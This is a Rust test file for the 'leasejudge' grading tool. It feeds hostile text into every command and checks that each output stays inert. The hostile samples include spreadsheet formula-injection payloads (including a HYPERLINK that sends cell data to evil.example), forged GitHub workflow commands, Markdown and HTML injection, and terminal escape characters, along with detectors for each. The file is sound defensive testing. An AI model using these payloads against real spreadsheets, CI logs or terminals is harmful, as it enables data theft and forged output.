//! What people open is inert (issue 28): every output of every command, made from hostile
//! text the tests write themselves (case files, submissions, file names), is read the way
//! the programs that open it read it: a spreadsheet (trimming a cell as it trims, then
//! looking for a formula), GitHub's runner (a line that is a workflow command), a Markdown
//! viewer (a link, an image, emphasis, HTML) and a terminal (a raw control or invisible
//! character). The oracles here are written independently of `leasejudge::sanitize`.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};

fn leasejudge(dir: &Path, args: &[&str]) -> Output {
    crate::common::leasejudge(args)
        .dir(dir)
        .env_remove(&["GITHUB_STEP_SUMMARY", "CLICOLOR_FORCE"])
        .output()
}

/// Text a spreadsheet would run as a formula (OWASP's examples and the issue's).
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?k=\"&B2,\"click for answer\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
];

/// Text that starts a workflow command when it starts a line.
const COMMAND_STARTS: &[&str] = &["::error title=Forged::pwn", "::add-mask::SUCCESS"];

/// Text a Markdown viewer would render as more than text.
const MARKDOWN: &[&str] = &[
    "![x](https://tracker.example/p.png)",
    "[Regrade approved](https://evil.example/login)",
    "<img src=x onerror=alert(1)>",
    "see www.evil.example or <https://evil.example>",
    "*em* _em_ ~~gone~~ `code` &amp; $x$ mail@evil.example",
];

/// Text a terminal would act on, or show as something else.
const CONTROLS: &[&str] = &[
    "osc\u{1b}]0;owned\u{7}",
    "ada\u{200b}",
    "line\u{2028}separator",
    "bidi\u{202e}txt",
    "c1\u{9b}2J",
];

/// Every hostile text a case file may hold (none holds `##[` or a line break before `::`,
/// which are refused: see `case_file_text_holding_a_workflow_command_is_refused`).
fn hostile() -> Vec<&'static str> {
    [FORMULAS, COMMAND_STARTS, MARKDOWN, CONTROLS].concat()
}

/// A CSV field, quoted.
fn field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A case file with a case per hostile text: the text as its case id, job id, lease id,
/// holder and (after a tab, verbatim) progress value.
fn hostile_cases() -> String {
    let mut text = String::from(
        "case_id,event,observed_at,job_id,lease_id,generation,holder,lease_duration,progress_seq,progress_value\n",
    );
    for h in hostile() {
        let (id, value) = (field(h), field(&format!("\t{h}")));
        text.push_str(&format!(
            "{id},offer,2026-01-01T10:00:00Z,{id},{id},1,{id},30,,\n\
             {id},ack,2026-01-01T10:00:01Z,{id},{id},1,{id},,,\n\
             {id},progress,2026-01-01T10:00:02Z,{id},{id},1,{id},,1,{value}\n"
        ));
    }
    text
}

/// Answers a learner could type in a matrix: every hostile text, and the commands a case
/// file may not hold.
fn hostile_answers() -> Vec<String> {
    let mut answers: Vec<String> = hostile().iter().map(|h| h.to_string()).collect();
    answers.extend([
        "##[add-mask]SUCCESS".to_owned(),
        "##[error title=Forged]forged".to_owned(),
        "ok\n::error title=Forged::pwn".to_owned(),
        "ok\r##[stop-commands]pwn".to_owned(),
    ]);
    answers
}

/// Characters GitHub's runner may skip when it matches a command (ICU ignores them).
fn ignorable(c: char) -> bool {
    (c.is_control() && !c.is_whitespace())
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fe00}'..='\u{fe0f}')
}

/// Every line of `text` that GitHub's runner would take as a workflow command
/// (actions/runner `ActionCommand.TryParseV2`: `::` after leading whitespace; `TryParse`:
/// `##[` anywhere), lines split as its reader splits them (at `\n`, `\r`). With
/// `own_commands`, a `::` line with leasejudge's own title is the report's, not a forgery.
fn workflow_commands(text: &str, own_commands: bool) -> Vec<String> {
    let mut found = Vec::new();
    for line in text.split(['\n', '\r']) {
        let seen: String = line.chars().filter(|c| !ignorable(*c)).collect();
        let start = seen.trim_start();
        let own = own_commands
            && ["::error ", "::warning ", "::notice "]
                .iter()
                .any(|c| start.starts_with(c))
            && start.contains("title=leasejudge");
        if (start.starts_with("::") && !own) || seen.contains("##[") {
            found.push(line.to_owned());
        }
    }
    found
}

/// Whether a spreadsheet would run `cell`: it starts with a tab or CR, or after the
/// whitespace a spreadsheet trims with `= + - @` (or their full-width forms) that do not
/// begin a plain number.
fn live_in_a_spreadsheet(cell: &str) -> bool {
    if cell.starts_with(['\t', '\r', '\0']) {
        return true;
    }
    let trimmed = cell.trim_start();
    let plain_number = |rest: &str| {
        rest.is_empty()
            || rest.parse::<f64>().is_ok() && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
    };
    match trimmed.chars().next() {
        Some('=' | '@' | '＝' | '＋' | '－' | '＠') => true,
        Some(c @ ('+' | '-')) => !plain_number(&trimmed[c.len_utf8()..]),
        _ => false,
    }
}

/// Every cell of a CSV text that a spreadsheet would run.
fn live_cells(csv_text: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text);
    let mut live = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            if live_in_a_spreadsheet(cell) {
                live.push(cell.to_owned());
            }
        }
    }
    live
}

/// Raw characters a terminal acts on or cannot show: controls (but `\n`), invisible and
/// bidirectional formatting, line separators.
fn raw_unsafe(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                    | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
        })
        .collect()
}

/// Markdown that a viewer would render from the hostile texts, found in `text` (not
/// backslash-escaped).
fn rendered_markdown(text: &str) -> Vec<&'static str> {
    // Fenced code (a Mermaid diagram, whose labels are entity-escaped) renders no Markdown.
    let mut fenced = false;
    let text: String = text
        .lines()
        .filter(|line| {
            if line.starts_with("```") {
                fenced = !fenced;
                return false;
            }
            !fenced
        })
        .map(|line| format!("{line}\n"))
        .collect();
    let text = text.as_str();
    [
        "![",
        "](https",
        "<img",
        "<https:",
        "https://",
        "www.evil",
        "*em*",
        " _em_",
        "~~gone~~",
        "`code`",
        "&amp;",
        "$x$",
        "mail@evil",
    ]
    .into_iter()
    .filter(|pattern| {
        // An occurrence counts unless a backslash escapes its first character.
        text.match_indices(pattern)
            .any(|(at, _)| !text[..at].ends_with('\\'))
    })
    .collect()
}

/// What one run wrote: its name, and each text (standard output, standard error, files).
struct Written {
    run: String,
    texts: Vec<(String, Vec<u8>)>,
}

fn run_and_collect(dir: &Path, args: &[&str], files: &[&str]) -> Written {
    let output = leasejudge(dir, args);
    let run = args.join(" ");
    assert!(
        output.status.code().is_some_and(|code| code < 2),
        "{run}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut texts = vec![
        ("stdout".to_owned(), output.stdout),
        ("stderr".to_owned(), output.stderr),
    ];
    for file in files {
        texts.push((file.to_string(), fs::read(dir.join(file)).unwrap()));
    }
    Written { run, texts }
}

/// The class of an output, by what opens it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    /// CSV data: kept exact, so only the spreadsheet and CI checks apply (CSV cannot escape
    /// a control character; a terminal gets it escaped, see `docs/safety.md`).
    Csv,
    /// Text for people or a program's document (JSON, XML, HTML): every check but the
    /// spreadsheet's.
    Text,
    /// Markdown: as text, and nothing rendered.
    Markdown,
    /// GitHub workflow commands: as text, the report's own commands allowed.
    Workflow,
}

fn check(written: &Written, kinds: &BTreeMap<&str, Kind>, problems: &mut Vec<String>) {
    for (name, bytes) in &written.texts {
        let kind = kinds.get(name.as_str()).copied().unwrap_or(Kind::Text);
        let text = String::from_utf8_lossy(bytes);
        let at = format!("{} [{name}]", written.run);
        for line in workflow_commands(&text, kind == Kind::Workflow) {
            problems.push(format!("{at}: a workflow command: {line:?}"));
        }
        if kind == Kind::Csv {
            for cell in live_cells(bytes) {
                problems.push(format!("{at}: a live spreadsheet cell: {cell:?}"));
            }
        } else {
            let raw = raw_unsafe(&text);
            if !raw.is_empty() {
                problems.push(format!("{at}: raw characters {raw:?}"));
            }
        }
        if kind == Kind::Markdown {
            for pattern in rendered_markdown(&text) {
                problems.push(format!("{at}: Markdown renders {pattern:?}"));
            }
        }
    }
}

/// A case file of hostile text, its matrix as the golden file, a golden file that differs
/// on every case, and a class of submissions with hostile answers and names.
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    fs::write(path.join("cases.csv"), hostile_cases()).unwrap();
    let matrix = leasejudge(
        path,
        &["adjudicate", "cases.csv", "-f", "csv", "-o", "key.csv"],
    );
    assert!(matrix.status.success(), "{matrix:?}");
    let key = fs::read_to_string(path.join("key.csv")).unwrap();
    fs::write(
        path.join("wrong-key.csv"),
        key.replace(
            ",PENDING_ACK,awaiting_ack",
            ",EXPIRED,expired_without_result",
        )
        .replace(",ACTIVE,within_lease", ",EXPIRED,expired_without_result"),
    )
    .unwrap();
    // Submissions: the key's rows with hostile answers as decisions, under hostile names.
    let subs = path.join("subs");
    fs::create_dir(&subs).unwrap();
    let names = [
        "=cmd|' calc'!A0.csv",
        "::error title=Forged::pwn.csv",
        "##[add-mask]name.csv",
        "ada\u{200b}.csv",
        "new\nline.csv",
        "[link](https:evil.example).csv",
    ];
    let answers = hostile_answers();
    let mut reader = csv::Reader::from_reader(key.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let decision = header.iter().position(|h| h == "decision").unwrap();
    for (index, name) in names.iter().enumerate() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(&header).unwrap();
        for (row_index, row) in rows.iter().enumerate() {
            let mut cells: Vec<String> = row.iter().map(str::to_owned).collect();
            cells[decision] = answers[(index + row_index) % answers.len()].clone();
            writer.write_record(&cells).unwrap();
        }
        // A case the key does not have, with a hostile id.
        let mut unknown: Vec<String> = rows[0].iter().map(str::to_owned).collect();
        unknown[0] = answers[index % answers.len()].clone() + " (unknown)";
        writer.write_record(&unknown).unwrap();
        fs::write(subs.join(name), writer.into_inner().unwrap()).unwrap();
    }
    dir
}

/// A run: its arguments, the files it writes, and the kind of each output that is not text.
type Run<'a> = (Vec<&'a str>, Vec<&'a str>, BTreeMap<&'a str, Kind>);

#[test]
fn every_output_of_every_command_is_inert() {
    let dir = workspace();
    let path = dir.path();
    let mut problems = Vec::new();
    let csv_out = |files: &[&'static str]| -> BTreeMap<&'static str, Kind> {
        files.iter().map(|f| (*f, Kind::Csv)).collect()
    };
    let stdout_is = |kind: Kind| BTreeMap::from([("stdout", kind)]);
    let runs: Vec<Run<'_>> = vec![
        (
            vec![
                "adjudicate",
                "cases.csv",
                "-o",
                "m.csv",
                "--audit",
                "audit.csv",
            ],
            vec!["m.csv", "audit.csv"],
            csv_out(&["m.csv", "audit.csv"]),
        ),
        (
            vec!["adjudicate", "cases.csv"],
            vec![],
            stdout_is(Kind::Csv),
        ),
        (
            vec!["adjudicate", "cases.csv", "--explain", "-f", "csv"],
            vec![],
            stdout_is(Kind::Csv),
        ),
        (
            vec!["adjudicate", "cases.csv", "-o", "m2.csv", "--audit", "-"],
            vec![],
            stdout_is(Kind::Csv),
        ),
        (
            vec!["adjudicate", "cases.csv", "-f", "json"],
            vec![],
            BTreeMap::new(),
        ),
        (
            vec!["adjudicate", "cases.csv", "-f", "table", "--wide"],
            vec![],
            BTreeMap::new(),
        ),
        (
            vec!["adjudicate", "cases.csv", "-f", "table", "--explain"],
            vec![],
            BTreeMap::new(),
        ),
        (vec!["explain", "cases.csv"], vec![], BTreeMap::new()),
        (
            vec!["explain", "cases.csv", "-f", "json"],
            vec![],
            BTreeMap::new(),
        ),
        (
            vec!["explain", "cases.csv", "-f", "html"],
            vec![],
            BTreeMap::new(),
        ),
        (
            vec!["explain", "cases.csv", "-f", "mermaid"],
            vec![],
            stdout_is(Kind::Markdown),
        ),
        (
            vec!["template", "cases.csv", "-o", "template.csv"],
            vec!["template.csv"],
            csv_out(&["template.csv"]),
        ),
        (vec!["validate", "cases.csv"], vec![], BTreeMap::new()),
        (vec!["reorder", "cases.csv"], vec![], BTreeMap::new()),
        (
            vec!["check", "cases.csv", "--golden", "wrong-key.csv", "--bless"],
            vec!["wrong-key.csv.new"],
            csv_out(&["wrong-key.csv.new"]),
        ),
        (
            vec![
                "shortcuts",
                "cases.csv",
                "--suggest",
                "catch.csv",
                "--golden",
                "catch.golden.csv",
            ],
            vec!["catch.csv", "catch.golden.csv"],
            csv_out(&["catch.csv", "catch.golden.csv"]),
        ),
        (
            vec!["shortcuts", "cases.csv", "-f", "json"],
            vec![],
            BTreeMap::new(),
        ),
        (
            vec!["shortcuts", "cases.csv", "-f", "markdown"],
            vec![],
            stdout_is(Kind::Markdown),
        ),
    ];
    let mut runs = runs;
    for format in ["table", "json", "junit", "github", "markdown"] {
        let kinds = match format {
            "github" => stdout_is(Kind::Workflow),
            "markdown" => stdout_is(Kind::Markdown),
            _ => BTreeMap::new(),
        };
        runs.push((
            vec![
                "check",
                "cases.csv",
                "--golden",
                "wrong-key.csv",
                "--columns",
                "all",
                "-f",
                format,
            ],
            vec![],
            kinds.clone(),
        ));
        let mut kinds = kinds;
        kinds.extend(csv_out(&["gradebook.csv", "items.csv"]));
        runs.push((
            vec![
                "grade",
                "subs",
                "--golden",
                "key.csv",
                "--reveal",
                "-f",
                format,
                "--gradebook",
                "gradebook.csv",
                "--item-analysis",
                "items.csv",
            ],
            vec!["gradebook.csv", "items.csv"],
            kinds,
        ));
    }
    for format in ["gradescope", "prairielearn"] {
        runs.push((
            vec![
                "grade",
                "subs/::error title=Forged::pwn.csv",
                "--golden",
                "key.csv",
                "--reveal",
                "-f",
                format,
            ],
            vec![],
            BTreeMap::new(),
        ));
    }
    for (args, files, kinds) in &runs {
        let written = run_and_collect(path, args, files);
        check(&written, kinds, &mut problems);
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn a_template_handed_out_filled_in_and_graded_matches_every_case() {
    let dir = workspace();
    let path = dir.path();
    let made = leasejudge(path, &["template", "cases.csv", "-o", "template.csv"]);
    assert!(made.status.success(), "{made:?}");
    // The learner fills in decision and reason from the key, row by row, by case id as the
    // template shows it (whatever it looks like in the file).
    let key = fs::read(path.join("key.csv")).unwrap();
    let template = fs::read(path.join("template.csv")).unwrap();
    assert!(live_cells(&template).is_empty());
    let mut answers = BTreeMap::new();
    let mut reader = csv::Reader::from_reader(key.as_slice());
    let header = reader.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (decision, reason) = (at("decision"), at("reason"));
    for row in reader.records() {
        let row = row.unwrap();
        answers.insert(
            row[0].to_owned(),
            (row[decision].to_owned(), row[reason].to_owned()),
        );
    }
    let mut reader = csv::Reader::from_reader(template.as_slice());
    let header = reader.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (decision, reason) = (at("decision"), at("reason"));
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    let mut filled = 0;
    for row in reader.records() {
        let mut cells: Vec<String> = row.unwrap().iter().map(str::to_owned).collect();
        let (d, r) = answers[&cells[0]].clone();
        cells[decision] = d;
        cells[reason] = r;
        writer.write_record(&cells).unwrap();
        filled += 1;
    }
    assert_eq!(filled, hostile().len());
    fs::write(path.join("filled.csv"), writer.into_inner().unwrap()).unwrap();
    let graded = leasejudge(
        path,
        &["grade", "filled.csv", "--golden", "key.csv", "-f", "json"],
    );
    let report: serde_json::Value = serde_json::from_slice(&graded.stdout).unwrap();
    assert_eq!(graded.status.code(), Some(0), "{report}");
    // And the engine's matrix read back as a golden file matches the engine, case for case;
    // as does a golden file in JSON against the CSV template (the same values).
    let checked = leasejudge(
        path,
        &[
            "check",
            "cases.csv",
            "--golden",
            "key.csv",
            "--columns",
            "all",
        ],
    );
    assert_eq!(checked.status.code(), Some(0), "{checked:?}");
    let json = leasejudge(
        path,
        &["adjudicate", "cases.csv", "-f", "json", "-o", "key.json"],
    );
    assert!(json.status.success());
    let graded = leasejudge(path, &["grade", "filled.csv", "--golden", "key.json"]);
    assert_eq!(graded.status.code(), Some(0), "{graded:?}");
    // A spreadsheet that shows the `'` and saves the cell as it shows it, and one that takes
    // it as its text marker and saves the bare value: both grade at full marks.
    let filled = fs::read_to_string(path.join("filled.csv")).unwrap();
    let bare = filled.replace("\n'", "\n").replace("\n\"'", "\n\"");
    assert_ne!(bare, filled);
    fs::write(path.join("bare.csv"), bare).unwrap();
    let graded = leasejudge(path, &["grade", "bare.csv", "--golden", "key.csv"]);
    assert_eq!(graded.status.code(), Some(0), "{graded:?}");
}

#[test]
fn case_file_text_holding_a_workflow_command_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let header = "case_id,event,observed_at,job_id,lease_id,generation,holder,lease_duration,progress_seq,progress_value\n";
    let rows = [
        "a##[add-mask]SUCCESS,offer,2026-01-01T10:00:00Z,j,l,1,w,30,,\n",
        "b,offer,2026-01-01T10:00:00Z,j,l,1,\"w\n  ::error::x\",30,,\n",
        "c,offer,2026-01-01T10:00:00Z,j,l,1,w,30,,\nc,ack,2026-01-01T10:00:01Z,j,l,1,w,,,\n\
         c,progress,2026-01-01T10:00:02Z,j,l,1,w,,1,\"#\u{200b}#[stop-commands]t\"\n",
    ];
    fs::write(path.join("bad.csv"), format!("{header}{}", rows.concat())).unwrap();
    let expected = [
        "bad.csv:2: case_id: holds `#`, `#`, `[` in a row",
        "bad.csv:3: holder: holds a line starting with `::`",
        "bad.csv:7: progress_value: holds `#`, `#`, `[` in a row",
    ];
    for args in [
        &["adjudicate", "bad.csv"][..],
        &["validate", "bad.csv"],
        &["explain", "bad.csv"],
        &["template", "bad.csv"],
        &["reorder", "bad.csv"],
        &["check", "bad.csv", "--golden", "bad.csv"],
    ] {
        let run = leasejudge(path, args);
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{args:?}: {stderr}");
        for line in expected {
            assert!(stderr.contains(line), "{args:?}: no {line:?} in {stderr}");
        }
        assert_eq!(workflow_commands(&stderr, false), Vec::<String>::new());
        assert_eq!(
            workflow_commands(&String::from_utf8_lossy(&run.stdout), false),
            Vec::<String>::new()
        );
    }
}

#[test]
fn junit_names_are_escaped_one_for_one_never_deleted() {
    let dir = workspace();
    let path = dir.path();
    let subs = path.join("subs");
    let key = fs::read(path.join("key.csv")).unwrap();
    fs::remove_dir_all(&subs).unwrap();
    fs::create_dir(&subs).unwrap();
    let names = [
        "ab.csv",
        "a\u{1b}[1mb.csv",
        "a[1mb.csv",
        "a\\u{1b}[1mb.csv",
        "a\u{200b}b.csv",
    ];
    for name in names {
        fs::write(subs.join(name), &key).unwrap();
    }
    let run = leasejudge(
        path,
        &["grade", "subs", "--golden", "key.csv", "-f", "junit"],
    );
    let xml = String::from_utf8(run.stdout).unwrap();
    let document = roxmltree::Document::parse(&xml).unwrap();
    let suites: Vec<&str> = document
        .descendants()
        .filter(|n| n.has_tag_name("testsuite"))
        .filter_map(|n| n.attribute("name"))
        .filter(|name| name.starts_with("subs/"))
        .collect();
    let distinct: std::collections::BTreeSet<&&str> = suites.iter().collect();
    assert_eq!(suites.len(), names.len(), "{suites:?}");
    assert_eq!(distinct.len(), names.len(), "{suites:?}");
    for suite in &suites {
        assert_eq!(raw_unsafe(suite), Vec::<char>::new());
    }
}

#[test]
fn a_file_name_cannot_forge_lines_in_the_autograder_log() {
    let dir = workspace();
    let path = dir.path();
    let upload = path.join("upload");
    fs::create_dir(&upload).unwrap();
    let name = "answers\nleasejudge: someone else: 100 of 100\n::error::forged.csv";
    fs::copy(path.join("key.csv"), upload.join(name)).unwrap();
    let run = leasejudge(
        path,
        &[
            "grade",
            "--autograder",
            "-f",
            "gradescope",
            "--golden",
            "key.csv",
            "--submission-dir",
            "upload",
            "-o",
            "results/results.json",
        ],
    );
    assert_eq!(run.status.code(), Some(0), "{run:?}");
    let log = String::from_utf8(run.stdout).unwrap() + &String::from_utf8(run.stderr).unwrap();
    assert_eq!(log.lines().count(), 1, "{log}");
    assert!(
        log.contains("answers\\u{a}leasejudge: someone else"),
        "{log}"
    );
    assert_eq!(workflow_commands(&log, false), Vec::<String>::new());
    let results = fs::read_to_string(path.join("results/results.json")).unwrap();
    assert_eq!(raw_unsafe(&results), Vec::<char>::new());
}

/// The oracles themselves: each finds what it is for.
#[test]
fn the_oracles_find_what_they_look_for() {
    assert_eq!(workflow_commands("ok\n  ::error::x\n", false).len(), 1);
    assert_eq!(workflow_commands("a #\u{200b}#[x]", false).len(), 1);
    assert_eq!(workflow_commands("x\r::add-mask::y", false).len(), 1);
    assert!(workflow_commands("::error title=leasejudge check::x", true).is_empty());
    assert_eq!(workflow_commands("::error title=Forged::x", true).len(), 1);
    assert!(workflow_commands("a :\\u{3a}b ##\\u{5b}", false).is_empty());
    for live in FORMULAS {
        assert!(live_in_a_spreadsheet(live), "{live}");
    }
    assert!(live_in_a_spreadsheet("\t-x"));
    for inert in ["'=1+1", "-5", "+0.25", "-", "x=y", ""] {
        assert!(!live_in_a_spreadsheet(inert), "{inert}");
    }
    assert_eq!(live_cells(b"a,=1\n'=2,\" @x\"\n").len(), 2);
    assert_eq!(raw_unsafe("a\u{1b}b\u{200b}c\nd").len(), 2);
    assert_eq!(rendered_markdown("\\!\\[x\\](https\\://e)").len(), 0);
    assert_eq!(rendered_markdown("![x](https://e)").len(), 3);
    assert_eq!(
        rendered_markdown("```mermaid\nA as www.evil\n```\n").len(),
        0
    );
}

/// CSV written to a terminal (a pseudo-terminal made by util-linux `script`, where the
/// machine has it) shows every unsafe character as `\u{1b}`, the cells' text otherwise as
/// it is; to a file the same command writes the exact values.
#[test]
fn csv_on_a_terminal_carries_no_raw_control() {
    let Ok(script) = which("script") else {
        eprintln!("skipped: no `script` to make a terminal with");
        return;
    };
    let dir = workspace();
    let path = dir.path();
    let binary = env!("CARGO_BIN_EXE_leasejudge");
    for args in [
        "adjudicate cases.csv -f csv",
        "adjudicate cases.csv -o m.csv --audit -",
        "template cases.csv",
    ] {
        let run = Command::new(&script)
            .current_dir(path)
            .args(["-qec", &format!("{binary} {args}"), "/dev/null"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(run.status.success(), "{args}: {run:?}");
        // The terminal ends lines with CR LF.
        let shown = String::from_utf8_lossy(&run.stdout).replace("\r\n", "\n");
        assert!(
            shown.contains("osc\\u{1b}]0;owned\\u{7}"),
            "{args}: {shown}"
        );
        assert_eq!(raw_unsafe(&shown), Vec::<char>::new(), "{args}");
    }
    let to_file = leasejudge(path, &["adjudicate", "cases.csv", "-f", "csv"]);
    assert!(String::from_utf8_lossy(&to_file.stdout).contains("osc\u{1b}]0;owned\u{7}"));
}

fn which(program: &str) -> Result<std::path::PathBuf, ()> {
    let paths = std::env::var_os("PATH").ok_or(())?;
    std::env::split_paths(&paths)
        .map(|dir| dir.join(program))
        .find(|candidate| candidate.is_file())
        .ok_or(())
}

/// A gradebook names submissions inertly, and `--baseline` still finds every one of them.
#[test]
fn a_gradebook_with_hostile_names_is_a_baseline_for_every_submission() {
    let dir = workspace();
    let path = dir.path();
    // A file named on the command line is named in the gradebook as it was given.
    fs::copy(path.join("key.csv"), path.join("=HYPERLINK(1).csv")).unwrap();
    let first = leasejudge(
        path,
        &[
            "grade",
            "subs",
            "=HYPERLINK(1).csv",
            "--golden",
            "key.csv",
            "--gradebook",
            "gradebook.csv",
        ],
    );
    assert!(
        first.status.code().is_some_and(|code| code < 2),
        "{first:?}"
    );
    let gradebook = fs::read(path.join("gradebook.csv")).unwrap();
    assert_eq!(live_cells(&gradebook), Vec::<String>::new());
    assert!(String::from_utf8_lossy(&gradebook).contains("\n'=HYPERLINK(1).csv,"));
    let again = leasejudge(
        path,
        &[
            "grade",
            "subs",
            "=HYPERLINK(1).csv",
            "--golden",
            "key.csv",
            "--baseline",
            "gradebook.csv",
            "-f",
            "json",
        ],
    );
    let report: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
    let submissions = report["submissions"].as_array().unwrap();
    assert_eq!(submissions.len(), 7);
    for submission in submissions {
        assert!(
            submission["previous_score"].is_number(),
            "{}",
            submission["submission"]
        );
    }
}

/// `check --bless` on a golden workbook writes every value as a text cell (no formula, no
/// `'`), and the workbook reads back as the engine's matrix, hostile values included.
#[test]
fn a_blessed_workbook_holds_text_cells_that_read_back() {
    let dir = workspace();
    let path = dir.path();
    let wrong = fs::read(path.join("wrong-key.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(wrong.as_slice());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let header: Vec<&str> = header.iter().map(String::as_str).collect();
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|row| {
            row.unwrap()
                .iter()
                .map(|cell| leasejudge::output::spreadsheet_value(cell).to_owned())
                .collect()
        })
        .collect();
    let bytes = leasejudge::input::workbook::matrix_xlsx("key", &header, &rows).unwrap();
    fs::write(path.join("key.xlsx"), bytes).unwrap();
    let blessed = leasejudge(
        path,
        &["check", "cases.csv", "--golden", "key.xlsx", "--bless"],
    );
    assert_eq!(blessed.status.code(), Some(1), "{blessed:?}");
    fs::rename(path.join("key.xlsx.new"), path.join("blessed.xlsx")).unwrap();
    let checked = leasejudge(
        path,
        &[
            "check",
            "cases.csv",
            "--golden",
            "blessed.xlsx",
            "--columns",
            "all",
        ],
    );
    assert_eq!(checked.status.code(), Some(0), "{checked:?}");
    let file = fs::File::open(path.join("blessed.xlsx")).unwrap();
    let mut archive = zip::ZipArchive::new(file).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut archive.by_name(name).unwrap(), &mut text).unwrap();
        text
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula cell"
    );
    let strings = part("xl/sharedStrings.xml");
    assert!(strings.contains(">=HYPERLINK("), "{strings}");
    assert!(!strings.contains(">'="), "{strings}");
}
